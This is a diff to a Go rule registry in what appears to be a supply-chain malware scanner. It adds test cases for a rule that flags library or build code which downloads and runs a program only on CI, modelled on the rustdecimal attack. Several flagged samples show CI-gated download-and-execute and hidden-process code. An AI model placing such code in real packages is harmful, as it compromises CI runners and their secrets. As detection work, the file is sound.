@@ -907,14 +907,25 @@ var registry = []Rule{
 			{"index.js", "const { spawn } = require('child_process')\nfunction checkLater() {\n  spawn(process.execPath, [check], { detached: true, stdio: 'ignore' }).unref()\n}\nmodule.exports = { checkLater }", 0, true},
 			{"pkg/__init__.py", "import subprocess\ntry:\n    __version__ = subprocess.check_output(['git', 'describe']).decode()\nexcept Exception:\n    __version__ = '0'", 3, true},
 		}},
-	{"ci-only-build-code", KindBuildFile, High, "build code fetches or starts a shell only when it runs on CI",
-		"build code that behaves one way on CI and another on a developer's machine hides what it does from whoever builds it locally; here the CI-only branch reaches the network or a shell, with the runner's token and secrets (as the rustdecimal crate checked GITLAB_CI)", []Case{
+	{"ci-only-build-code", KindBuildFile, High, "code fetches, or runs what it fetched, only when it runs on CI",
+		"code that behaves one way on CI and another on a developer's machine hides what it does from whoever builds or tests it locally; here the CI-only branch reaches the network or a shell, with the runner's token and secrets (as the rustdecimal crate's Decimal::new checked GITLAB_CI, downloaded a program and ran it in the pipelines that ran its tests)", []Case{
 			{"build.rs", "use std::process::Command;\nfn main() {\n    if std::env::var(\"GITHUB_ACTIONS\").is_ok() {\n        let _ = Command::new(\"sh\").arg(\"-c\").arg(script()).status();\n    }\n}", 4, false},
 			{"setup.py", "import os, subprocess\nif os.environ.get('GITLAB_CI'):\n    subprocess.run(['sh', '-c', os.environ.get('HOOK', '')])", 3, false},
 			// CI's own settings (a flag, a quieter build), or a branch that
 			// runs the compiler.
 			{"build.rs", "fn main() {\n    if std::env::var(\"CI\").is_ok() {\n        println!(\"cargo:rustc-cfg=ci\");\n    }\n    let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(\"true\").status();\n}", 0, true},
 			{"setup.py", "import os, subprocess\nif os.environ.get('CI'):\n    subprocess.check_call(['cmake', '--build', 'build'])", 0, true},
+			// A library the tests call: "unless on CI, return", then a
+			// download and a program started; or a hidden process on CI.
+			{"src/decimal.rs", "fn check() {\n    if std::env::var(\"GITLAB_CI\").is_err() {\n        return;\n    }\n    let mut easy = curl::easy::Easy::new();\n    easy.url(U).unwrap();\n    easy.perform().unwrap();\n    std::fs::write(P, &data).unwrap();\n    let _ = std::process::Command::new(P).spawn();\n}", 9, false},
+			{"lib/util.js", "function init() {\n  if (!process.env.CI) return\n  const { spawn } = require('child_process')\n  spawn(process.execPath, [p], { detached: true, stdio: 'ignore' }).unref()\n}", 4, false},
+			{"pkg/fmt.py", "import os, subprocess\nif os.environ.get('CI'):\n    urllib.request.urlretrieve(U, '/tmp/t')\n    subprocess.Popen(['/tmp/t'])", 4, false},
+			// Ordinary CI checks in a library: colour off, a temp dir, a
+			// skipped test, a fixture fetched and unpacked.
+			{"src/term.rs", "pub fn colors() -> bool {\n    if std::env::var(\"CI\").is_ok() {\n        return false;\n    }\n    let out = std::process::Command::new(\"tput\").arg(\"colors\").output();\n    out.is_ok()\n}", 0, true},
+			{"tests/helpers.py", "import os, subprocess, tempfile\nif os.environ.get('CI'):\n    TMP = tempfile.mkdtemp()\n    subprocess.run(['git', 'config', '--global', 'user.name', 'ci'])", 0, true},
+			{"tests/conftest.py", "import os, subprocess\nif os.environ.get('CI'):\n    subprocess.check_call(['curl', '-fsSLo', 'data.tgz', U])\n    subprocess.check_call(['tar', 'xzf', 'data.tgz'])", 0, true},
+			{"src/lib.rs", "fn tmp() -> PathBuf {\n    if std::env::var(\"CI\").is_err() {\n        return std::env::temp_dir();\n    }\n    PathBuf::from(\"/tmp/ci\")\n}", 0, true},
 		}},
 	{"install-hook-release", KindScript, High, "a release adds an install hook that runs a file the change does not show",
 		"the version bump publishes it: every machine that installs that release runs the hook before any test, and its code is not in this diff (how install-time worms republish themselves)", []Case{
